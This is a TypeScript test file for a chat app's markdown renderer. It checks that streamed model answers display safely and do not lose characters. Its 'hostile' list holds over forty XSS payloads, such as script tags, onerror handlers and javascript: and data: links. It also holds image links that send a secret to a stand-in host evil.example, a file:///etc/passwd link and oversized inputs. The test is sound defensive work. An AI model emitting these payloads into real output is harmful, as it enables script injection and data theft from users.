import { Lexer } from 'marked';
import { expect, test, vi } from 'vitest';
import { markdownToText } from '#pwa/chat/conversation/goal-from-answer.ts';
import { type Inline, type MarkdownBlock, readMarkdown } from './read-markdown.ts';

const all = (blocks: readonly MarkdownBlock[]): (MarkdownBlock | Inline)[] =>
  blocks.flatMap((block) => [block, ...insideOf(block)]);
function insideOf(block: MarkdownBlock): (MarkdownBlock | Inline)[] {
  if (block.kind === 'list') return block.items.flatMap(({ inside }) => all(inside));
  if (block.kind === 'table')
    return [block.head, ...block.rows].flat().flatMap(({ inside }) => inside.flatMap(allInline));
  if (block.kind === 'quote') return all(block.inside);
  return 'inside' in block ? block.inside.flatMap(allInline) : [];
}
const allInline = (inline: Inline): Inline[] => [
  inline,
  ...('inside' in inline ? inline.inside.flatMap(allInline) : []),
];
const words = (text: string, isOpen = false) =>
  all(readMarkdown(text, isOpen))
    .map((part) => ('text' in part ? part.text : ''))
    .join('');

/** Lists texts that a model, or somebody through it, may send to reach out of the text. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">press</a>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name=p></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<details open ontoggle=alert(1)>',
  '![](https://evil.example/?q=secret)',
  '![alt][ref]\n\n[ref]: https://evil.example/pixel.png',
  '[![inner](https://evil.example/a.png)](https://evil.example)',
  '[press](javascript:alert(1))',
  '[press](JaVaScRiPt:alert(1))',
  '[press](java\tscript:alert(1))',
  '[press](&#106;avascript:alert(1))',
  '[press](&#x6A;avascript&colon;alert(1))',
  '[press](data:text/html,<script>alert(1)</script>)',
  '[press](vbscript:msgbox(1))',
  '[press](file:///etc/passwd)',
  '[press](blob:https://evil.example/1)',
  '[press](intent://scan/#Intent;end)',
  '[press](tel:+15550142)',
  '[press](//evil.example)',
  '[press](/api/auth/logout)',
  '[press](https://northbeam.example@evil.example)',
  '[press][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | ![](https://evil.example) |',
  '- [ ] <input type=checkbox onclick=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '# <img src=x onerror=alert(1)>',
  '> > > <script>alert(1)</script>',
  `${'['.repeat(5_000)}a${']'.repeat(5_000)}`,
  `${'> '.repeat(500)}deep`,
  `${'*'.repeat(4_000)}a`,
];

test.each(hostile)('%s stays text: no image, no link but to a page', (sample) => {
  for (const isOpen of [false, true]) {
    for (const part of all(readMarkdown(sample, isOpen))) {
      expect([
        'text',
        'strong',
        'em',
        'code',
        'link',
        'break',
        'paragraph',
        'heading',
        'list',
        'quote',
        'table',
        'rule',
      ]).toContain(part.kind);
      if (part.kind === 'link') expect(part.href).toMatch(/^https?:\/\/(?:[^@/]*)(?:\/|$)/);
    }
  }
});

test('there are forty of them and more', () => {
  expect(new Set(hostile).size).toBeGreaterThanOrEqual(40);
});

test('paragraphs, bold, lists, headings and a link to a page are what they are', () => {
  expect(
    readMarkdown('### Start\n\nCall **ten** people.\n\n1. Today\n2. Tomorrow\n\n[more](https://example.com/a)'),
  ).toEqual([
    { kind: 'heading', inside: [{ kind: 'text', text: 'Start' }] },
    {
      kind: 'paragraph',
      inside: [
        { kind: 'text', text: 'Call ' },
        { kind: 'strong', inside: [{ kind: 'text', text: 'ten' }] },
        { kind: 'text', text: ' people.' },
      ],
    },
    {
      kind: 'list',
      start: 1,
      items: ['Today', 'Tomorrow'].map((text) => ({
        inside: [{ kind: 'paragraph', inside: [{ kind: 'text', text }] }],
      })),
    },
    {
      kind: 'paragraph',
      inside: [{ kind: 'link', href: 'https://example.com/a', inside: [{ kind: 'text', text: 'more' }] }],
    },
  ]);
});

test('signs that are no marks are shown as they were typed', () => {
  expect(words('Fish & chips < $5 "today" it\'s 2 * 3')).toBe('Fish & chips < $5 "today" it\'s 2 * 3');
  expect(words('<b>bold</b>')).toBe('<b>bold</b>');
});

test('an answer that is still being written never shows half a mark', () => {
  const whole =
    'Call **ten people** today, *quietly*, with `a list`:\n\n- **One** thing\n- see [this](https://example.com)';
  for (let length = 1; length <= whole.length; length += 1) {
    expect(words(whole.slice(0, length), true), whole.slice(0, length)).not.toMatch(/[*`[\]]|https/);
  }
  expect(words(whole, true)).toBe('Call ten people today, quietly, with a list:One thingsee this');
});

test('no word of an open text is lost but a mark that nothing follows yet', () => {
  expect(words('Ten percent of 5 * 20 is', true)).toBe('Ten percent of 5 * 20 is');
  expect(words('Call **', true)).toBe('Call');
  expect(words('```\na = 1', true)).toBe('a = 1');
});

const overdone = {
  quotes: `${'>'.repeat(9_000)}x`,
  lists: `${'- '.repeat(9_000)}x`,
  numbers: `${'1. '.repeat(6_000)}x`,
  'marks that nothing closes': '*a **b '.repeat(2_500),
  'marks in marks': '*a **b '.repeat(1_200) + ' c** d*'.repeat(1_200),
  'low lines': ' _a __b'.repeat(2_500),
  'list below list': Array.from({ length: 180 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  brackets: '['.repeat(20_000),
};

test.each(Object.entries(overdone))(
  '%s without end are read all the same, open or not, and no word is lost',
  (_, text) => {
    const letters = text.match(/[a-z]/g)?.join('') ?? '';
    for (const isOpen of [false, true]) expect(words(text, isOpen).match(/[a-z]/g)?.join('') ?? '').toBe(letters);
  },
);

test('a text that the library stumbles over is shown as it was written', () => {
  vi.spyOn(Lexer, 'lex').mockImplementation(() => {
    throw new Error('Infinite loop on byte: 42');
  });
  expect(words('Call **ten** people.')).toBe('Call **ten** people.');
  vi.restoreAllMocks();
});

test('stars beside many words are no reason to show the marks', () => {
  const text = Array.from({ length: 60 }, (_, i) => `**Step ${i}**: call *one* of them, 2 * 3.`).join('\n');
  expect(words(text)).not.toContain('**');
});

test('where a link leads is shown when it stands on a line of its own', () => {
  expect(words('See [the list][1].\n\n[1]: https://example.com/list')).toContain('[1]: https://example.com/list');
});

// F10
test.each([
  '3*4*5',
  'a*b*c',
  'price*2 and 3*price',
  'x**2**y is *3*4',
  '1.5*2.5*3',
  '2031. was a good year',
  '2031. one\n2035. two',
  '007. an agent',
  '0. from nothing',
  '3. three\n5. five',
])('%s loses no sign, read as it stands or in the making', (sample) => {
  expect(markdownToText(sample)).toBe(sample);
  for (let length = 1; length < sample.length; length += 1) {
    expect(words(sample.slice(0, length), true)).not.toMatch(/\*$/);
  }
});

// F10
test('stars at the edges of words are marks, and in scripts without blanks everywhere', () => {
  const kinds = (text: string) => all(readMarkdown(text)).flatMap((part) => ('text' in part ? [] : part.kind));
  expect(kinds('Two **KPI**s')).toEqual(['paragraph', 'strong']);
  expect(kinds('a*b and *c*')).toEqual(['paragraph', 'em']);
  expect(kinds('日本**語**です')).toEqual(['paragraph', 'strong']);
});

const cells = (text: string) =>
  readMarkdown(text).map((block) =>
    block.kind === 'table' ? [block.head, ...block.rows].map((row) => row.map(({ inside }) => inside)) : block.kind,
  );
const cell = (text: string) => (text === '' ? [] : [{ kind: 'text', text }]);

// F10
test('a table is one, with all its columns and every cell that is written', () => {
  const row = (sign: string) => Array.from({ length: 7 }, (_, at) => `${sign}${at}`);
  const line = (row: string[]) => `| ${row.join(' | ')} |`;
  const table = [line(row('h')), line(row('').map(() => '-')), line(row('c'))].join('\n');
  expect(cells(table)).toEqual([[row('h').map(cell), row('c').map(cell)]]);
  expect(cells('| a | b |\n| - | - |\n| 1 | 2 \\| 3 | 4 |')).toEqual([
    [['a', 'b', ''].map(cell), ['1', '2 | 3', '4'].map(cell)],
  ]);
});

// F10
test('the head of a table is not shown as pipes before its first row is there', () => {
  const table = 'So:\n\n| a | **b** |\n| - | - |\n| 1 | **2** |\n| 3 | 4 |';
  for (let length = 1; length <= table.length; length += 1) {
    expect(words(table.slice(0, length), true), table.slice(0, length)).not.toMatch(/[|*-]/);
  }
});

// F10
test('a table wide enough to fill the memory is shown as its text', () => {
  const wide = `${'a|'.repeat(3_000)}\n${'-|'.repeat(3_000)}\n${'|\n'.repeat(3_000)}`;
  expect(readMarkdown(wide).map(({ kind }) => kind)).toEqual(['paragraph']);
});

// F10
test('a task is its text behind a box', () => {
  expect(markdownToText('- [ ] call Ana\n- [x] **write**\n- rest')).toBe('☐ call Ana\n☑\ufe0e write\n- rest');
  expect(markdownToText('1. [ ] call Ana\n\n   today')).toBe('1. ☐ call Ana\ntoday');
});
